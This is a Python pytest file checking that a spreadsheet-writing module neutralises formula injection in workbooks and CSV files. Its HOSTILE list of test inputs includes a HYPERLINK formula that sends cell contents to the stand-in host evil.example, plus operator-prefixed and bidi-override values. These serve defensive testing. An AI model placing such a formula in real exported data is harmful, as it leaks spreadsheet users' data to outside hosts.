"""Table files (coopnet.spreadsheet): formula-free workbooks, spreadsheet-safe or exact CSV."""

from __future__ import annotations

import warnings
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

from coopnet.errors import DataWarning
from coopnet.spreadsheet import EXCEL_MAX_CHARS, write_csv, write_sheets

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klick")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "#N/A",
    "=A1",
    "Amt\u202eA",
    "Zeile\x0bzwei\x00",
]


def _cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(path)  # not data_only: formulas would show as type "f"
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_workbook_cells_are_never_formulas(tmp_path: Path) -> None:
    frame = pd.DataFrame({"label": HOSTILE, "=B2": range(len(HOSTILE))})
    path = write_sheets(tmp_path / "t.xlsx", {"t": frame}, exact=False)
    cells = _cells(path)
    assert all(c.data_type != "f" and c.data_type != "e" for c in cells)
    values = [c.value for c in cells]
    assert "=B2" in values and "=A1" in values and "#N/A" in values  # kept as text
    assert "AmtA" in values and "Zeile zwei\ufffd" in values  # cleaned for reading


def test_exact_workbook_keeps_text_and_warns_about_what_it_cannot_hold(tmp_path: Path) -> None:
    frame = pd.DataFrame({"label": [*HOSTILE, "x" * (EXCEL_MAX_CHARS + 5)]})
    with pytest.warns(DataWarning) as caught:
        path = write_sheets(tmp_path / "t.xlsx", {"t": frame}, exact=True)
    messages = " ".join(str(w.message) for w in caught)
    assert "control characters" in messages and "cut" in messages
    values = [c.value for c in _cells(path)][1:]
    assert values[:-2] == HOSTILE[:-1]  # bidi controls are data here: kept
    assert values[-2] == "Zeile\ufffdzwei\ufffd"
    assert len(values[-1]) == EXCEL_MAX_CHARS


def test_workbook_values_numbers_and_missing(tmp_path: Path) -> None:
    frame = pd.DataFrame({"a": [1.5, np.nan, np.inf], "b": [1, 2, 3], "c": ["x", None, True]})
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        path = write_sheets(tmp_path / "t.xlsx", {"t": frame}, exact=True, freeze_header=True)
    rows = list(openpyxl.load_workbook(path).active.iter_rows(values_only=True))
    assert rows == [("a", "b", "c"), (1.5, 1, "x"), (None, 2, None), (None, 3, True)]


def test_same_tables_same_bytes(tmp_path: Path) -> None:
    frame = pd.DataFrame({"a": ["x", "y"]})
    one = write_sheets(tmp_path / "1.xlsx", {"t": frame}, exact=False).read_bytes()
    two = write_sheets(tmp_path / "2.xlsx", {"t": frame}, exact=False).read_bytes()
    assert one == two
    with zipfile.ZipFile(tmp_path / "1.xlsx") as archive:
        assert b"<dc:creator>coopnet</dc:creator>" in archive.read("docProps/core.xml")


def test_spreadsheet_csv_neutralises_formulas_but_not_numbers(tmp_path: Path) -> None:
    frame = pd.DataFrame({"label": HOSTILE, "value": np.linspace(-1, 1, len(HOSTILE))})
    frame.columns = ["=label", "value"]
    text = write_csv(frame, tmp_path / "t.csv", spreadsheet=True).read_text(encoding="utf-8")
    lines = text.splitlines()
    assert lines[0] == "'=label,value"
    read = pd.read_csv(tmp_path / "t.csv", keep_default_na=False)
    for cell in read["'=label"]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert read["value"].iloc[0] == -1.0  # numbers stay numbers
    assert "\u202e" not in text


def test_exact_csv_round_trips(tmp_path: Path) -> None:
    frame = pd.DataFrame({"label": HOSTILE})
    write_csv(frame, tmp_path / "t.csv", spreadsheet=False)
    # the python engine: pandas < 3's C parser drops a trailing NUL when reading (the file has it)
    read = pd.read_csv(tmp_path / "t.csv", keep_default_na=False, dtype=str, engine="python")
    assert read["label"].tolist() == HOSTILE
